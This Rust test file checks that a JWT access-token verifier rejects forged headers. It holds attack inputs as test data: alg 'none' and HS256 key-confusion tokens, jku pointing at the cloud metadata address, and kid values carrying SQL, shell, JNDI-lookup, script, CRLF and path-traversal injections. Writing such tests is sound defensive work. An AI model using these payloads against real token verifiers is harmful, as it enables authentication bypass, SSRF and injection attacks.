//! The JOSE header: algorithms that the attacker chooses, keys that the attacker brings.

use serde_json::json;
use tower_resource_server::{issuer::SigningKey, keys::Algorithm};

use crate::{
    forge::{Forge, HEADER, MARK, base64, parts, secret, unbase64},
    site::{
        Case,
        Expected::{self, Admitted, BadToken},
        case,
    },
};

const ALGORITHM: Expected = BadToken("the token's algorithm is not accepted");
const UNKNOWN: Expected = BadToken("the token was signed by an unknown key");
const MISMATCH: Expected = BadToken("the token's key is not for the token's algorithm");
const SIGNATURE: Expected = BadToken("the token's signature is invalid");
const MALFORMED: Expected = BadToken("the token's header is not well-formed");
const TWICE: Expected = BadToken("a member name occurs twice in the token");
const TYPE: Expected = BadToken("the token is not of the accepted type");
const LARGE: Expected = BadToken("the token is too large");

pub fn algorithms(forge: &Forge) -> Vec<Case> {
    let pem = forge.issuer.token_issuer().signing_key().public_key_pem().unwrap();
    let body: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
    let der = base64_simd::STANDARD.decode_to_vec(&body).unwrap();
    let jwk = forge.public_jwk();
    let x = unbase64(jwk["x"].as_str().unwrap());
    let hs256 = r#""alg":"HS256","kid":"key-1","typ":"at+jwt""#;
    let alg = |alg: &str| forge.headed(&format!(r#""alg":{alg},"kid":"key-1","typ":"at+jwt""#));
    let unsigned = |alg: &str| {
        let [_, payload, _] = parts(&forge.token());
        let header = format!(r#"{{"alg":{alg},"kid":"key-1","typ":"at+jwt"}}"#);
        format!("{}.{payload}.", base64(header))
    };
    let hmac = |bytes: &[u8]| forge.by(&secret(bytes), hs256);
    let ed25519 = SigningKey::generate(Algorithm::EdDSA).unwrap();
    [
        ("none", unsigned(r#""none""#), ALGORITHM),
        ("None", unsigned(r#""None""#), ALGORITHM),
        ("NONE", unsigned(r#""NONE""#), ALGORITHM),
        ("nOnE", unsigned(r#""nOnE""#), ALGORITHM),
        ("none with a space", unsigned(r#""none ""#), ALGORITHM),
        ("none and a good signature", alg(r#""none""#), ALGORITHM),
        ("empty alg", alg(r#""""#), ALGORITHM),
        ("alg in lower case", alg(r#""es256""#), ALGORITHM),
        ("alg with a space", alg(r#""ES256 ""#), ALGORITHM),
        ("alg escaped", alg(r#""\u0045S256""#), Admitted),
        ("alg null", alg("null"), MALFORMED),
        ("alg number", alg("256"), MALFORMED),
        ("alg array", alg(r#"["ES256"]"#), MALFORMED),
        ("alg object", alg(r#"{"ES256":1}"#), MALFORMED),
        ("no alg", forge.headed(r#""kid":"key-1","typ":"at+jwt""#), MALFORMED),
        ("alg twice", forge.also(r#""alg":"ES256""#), TWICE),
        ("alg twice, once none", forge.also(r#""alg":"none""#), TWICE),
        ("alg twice, once escaped", forge.also(r#""\u0061lg":"none""#), TWICE),
        ("an algorithm of no key", alg(r#""ES256K""#), ALGORITHM),
        ("an encryption algorithm", alg(r#""RSA-OAEP""#), ALGORITHM),
        ("direct encryption", alg(r#""dir""#), ALGORITHM),
        ("one of another curve", alg(r#""ES384""#), MISMATCH),
        ("one of another key type", alg(r#""RS256""#), MISMATCH),
        ("PSS", alg(r#""PS256""#), MISMATCH),
        (
            "Ed25519, well signed",
            forge.by(&ed25519, r#""alg":"EdDSA","kid":"key-1","typ":"at+jwt""#),
            MISMATCH,
        ),
        ("HS256 with the PEM", hmac(pem.as_bytes()), ALGORITHM),
        ("HS256 with the PEM, trimmed", hmac(pem.trim_end().as_bytes()), ALGORITHM),
        ("HS256 with the body of the PEM", hmac(body.as_bytes()), ALGORITHM),
        ("HS256 with the DER", hmac(&der), ALGORITHM),
        ("HS256 with the JWK", hmac(jwk.to_string().as_bytes()), ALGORITHM),
        ("HS256 with the JWK set", hmac(forge.issuer.jwks().to_string().as_bytes()), ALGORITHM),
        ("HS256 with a coordinate", hmac(&x), ALGORITHM),
        ("HS256 with the kid", hmac(b"key-1"), ALGORITHM),
        ("ES256 in the header, HMAC in the signature", forge.by(&secret(pem.as_bytes()), HEADER), SIGNATURE),
    ]
    .into_iter()
    .map(|(name, token, expected)| case(name, token, expected))
    .collect()
}

pub fn key_material(forge: &Forge) -> Vec<Case> {
    let other_signer = &forge.other_signer;
    let jwk = other_signer.public_jwk().unwrap();
    let x5c = json!([base64_simd::STANDARD.encode_to_string(MARK)]);
    let good = |members: &str| forge.also(members);
    let bad = |members: &str| forge.by(other_signer, &format!("{HEADER},{members}"));
    let nameless =
        |members: &str| forge.by(other_signer, &format!(r#""alg":"ES256","typ":"at+jwt",{members}"#));
    let kid = |kid: &str| forge.headed(&format!(r#""alg":"ES256","kid":{kid},"typ":"at+jwt""#));
    let long = |length: usize| kid(&format!("{:?}", "k".repeat(length)));
    [
        ("jwk of another signer, signed by it", bad(&format!(r#""jwk":{jwk}"#)), SIGNATURE),
        ("the same without kid", nameless(&format!(r#""jwk":{jwk}"#)), UNKNOWN),
        ("jwk of another signer, signed by us", good(&format!(r#""jwk":{jwk}"#)), Admitted),
        ("jwk of a shared secret", good(r#""jwk":{"kty":"oct","k":"AAAA"}"#), Admitted),
        ("jwk a number", good(r#""jwk":1"#), Admitted),
        ("jwk with a member twice", good(r#""jwk":{"kty":"EC","kty":"oct"}"#), TWICE),
        ("jku of another signer", bad(r#""jku":"https://zz-mark-zz.test/jwks""#), SIGNATURE),
        ("jku of another signer, no kid", nameless(r#""jku":"https://zz-mark-zz.test/jwks""#), UNKNOWN),
        (
            "jku to the metadata service",
            bad(r#""jku":"http://169.254.169.254/latest/zz-mark-zz""#),
            SIGNATURE,
        ),
        ("jku in a good token", good(r#""jku":"https://zz-mark-zz.test/jwks""#), Admitted),
        ("x5u of another signer", bad(r#""x5u":"https://zz-mark-zz.test/cert""#), SIGNATURE),
        ("x5u to a file", nameless(r#""x5u":"file:///etc/passwd""#), UNKNOWN),
        ("x5c of another signer", bad(&format!(r#""x5c":{x5c}"#)), SIGNATURE),
        ("x5c in a good token", good(&format!(r#""x5c":{x5c}"#)), Admitted),
        ("x5t of no certificate", good(r#""x5t":"zz-mark-zz","x5t#S256":"zz-mark-zz""#), Admitted),
        ("jpk of another signer", bad(r#""jpk":{"mod":"zz-mark-zz","exp":"AQAB"}"#), SIGNATURE),
        ("no kid, our key", forge.headed(r#""alg":"ES256","typ":"at+jwt""#), Admitted),
        ("no kid, another signer's", forge.by(other_signer, r#""alg":"ES256","typ":"at+jwt""#), UNKNOWN),
        ("kid empty", kid(r#""""#), UNKNOWN),
        ("kid null", kid("null"), MALFORMED),
        ("kid number", kid("1"), MALFORMED),
        ("kid array", kid(r#"["key-1"]"#), MALFORMED),
        ("kid object", kid(r#"{"key-1":1}"#), MALFORMED),
        ("kid twice", forge.also(r#""kid":"key-1""#), TWICE),
        ("kid in another case", kid(r#""KEY-1""#), UNKNOWN),
        ("kid with a space", kid(r#""key-1 ""#), UNKNOWN),
        ("kid with NUL", kid(r#""key-1\u0000""#), UNKNOWN),
        ("kid escaped", kid(r#""\u006bey-1""#), Admitted),
        ("kid, path traversal", kid(r#""../../../../../../dev/null""#), UNKNOWN),
        ("kid, an absolute path", kid(r#""/etc/passwd""#), UNKNOWN),
        ("kid, a URL", kid(r#""https://zz-mark-zz.test/key""#), UNKNOWN),
        ("kid, SQL", kid(r#""key-1' UNION SELECT 'zz-mark-zz'; --""#), UNKNOWN),
        ("kid, a shell", kid(r#""key-1; cat zz-mark-zz""#), UNKNOWN),
        ("kid, a template", kid(r#""${jndi:ldap://zz-mark-zz.test}""#), UNKNOWN),
        ("kid, markup", kid(r#""<script>zz-mark-zz</script>""#), UNKNOWN),
        ("kid, a header", kid(r#""key-1\r\nX-Injected: zz-mark-zz""#), UNKNOWN),
        ("kid, other letters", kid(r#""ключ-1""#), UNKNOWN),
        ("kid, right-to-left", kid(r#""\u202eyek""#), UNKNOWN),
        ("kid, half a surrogate pair", kid(r#""\ud800""#), MALFORMED),
        ("kid, the thumbprint", kid(&format!("{:?}", thumbprint(forge))), UNKNOWN),
        ("kid of 256 bytes", long(256), UNKNOWN),
        ("kid of 257 bytes", long(257), LARGE),
        ("no typ", forge.headed(r#""alg":"ES256","kid":"key-1""#), TYPE),
        ("typ JWT", forge.headed(r#""alg":"ES256","kid":"key-1","typ":"JWT""#), TYPE),
        ("typ empty", forge.headed(r#""alg":"ES256","kid":"key-1","typ":"""#), TYPE),
        ("typ null", forge.headed(r#""alg":"ES256","kid":"key-1","typ":null"#), MALFORMED),
        ("typ of a proof", forge.headed(r#""alg":"ES256","kid":"key-1","typ":"dpop+jwt""#), TYPE),
        ("typ longer", forge.headed(r#""alg":"ES256","kid":"key-1","typ":"at+jwtx""#), TYPE),
        (
            "typ with its prefix",
            forge.headed(r#""alg":"ES256","kid":"key-1","typ":"application/at+JWT""#),
            Admitted,
        ),
        ("header not JSON", forge.headed("alg"), MALFORMED),
        ("header with a member twice", forge.also(r#""x":1,"x":1"#), TWICE),
        ("header, nested twice", forge.also(r#""x":{"y":[{"z":1,"z":1}]}"#), TWICE),
        ("header, a comment", forge.headed(&format!("{HEADER} /* x */")), MALFORMED),
        ("header, a trailing comma", forge.headed(&format!("{HEADER},")), MALFORMED),
    ]
    .into_iter()
    .map(|(name, token, expected)| case(name, token, expected))
    .collect()
}

fn thumbprint(forge: &Forge) -> String {
    forge.issuer.token_issuer().signing_key().thumbprint().unwrap()
}
